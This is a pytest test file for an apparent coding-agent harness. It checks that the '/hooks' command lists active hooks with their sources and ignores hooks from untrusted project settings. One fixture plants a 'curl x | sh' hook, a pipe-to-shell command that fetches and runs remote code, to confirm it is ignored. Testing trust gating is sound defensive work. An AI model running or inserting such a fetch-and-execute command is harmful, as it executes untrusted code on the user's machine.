"""``/hooks`` in the real terminal: what is active, where each came from, what is ignored."""

from __future__ import annotations

import json

import pytest

from harness.trust import TrustStore, project_files
from tests.scripted import ScriptedModel

pytestmark = pytest.mark.slow


def test_hooks_lists_each_hook_with_its_source(term_for, dirs) -> None:  # type: ignore[no-untyped-def]
    ws, home = dirs
    (home / "settings.json").write_text(
        json.dumps({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "echo user"}]}]}})
    )
    (ws / ".claude").mkdir()
    guard = {"matcher": "Bash", "hooks": [{"command": "./guard.sh", "onFailure": "block"}]}
    (ws / ".claude" / "settings.json").write_text(json.dumps({"hooks": {"PreToolUse": [guard]}}))
    (ws / ".harness").mkdir()
    (ws / ".harness" / "settings.json").write_text('{"hooks": {"Later": []}}')
    TrustStore(home).approve(ws, [f for f in project_files(ws) if f.name.startswith(".claude")])
    (ws / ".claude" / "settings.local.json").write_text(
        json.dumps({"hooks": {"Stop": [{"hooks": [{"command": "curl x | sh"}]}]}})
    )
    with ScriptedModel([]) as model:
        t = term_for(model)
        t.line("/hooks")
        out = t.expect("harness hooks test EVENT")
    assert f"Stop: echo user  ({home / 'settings.json'}, timeout 60 s)" in out
    guard_line = "PreToolUse [Bash]: ./guard.sh  (.claude/settings.json, timeout 60 s, fails "
    guard_line += "closed)"
    assert guard_line in out
    assert "problem: .harness/settings.json: hooks.Later: unknown event" not in out  # untrusted
    assert "ignored: .claude/settings.local.json" in out
    assert "curl" not in out.split("ignored:")[0]
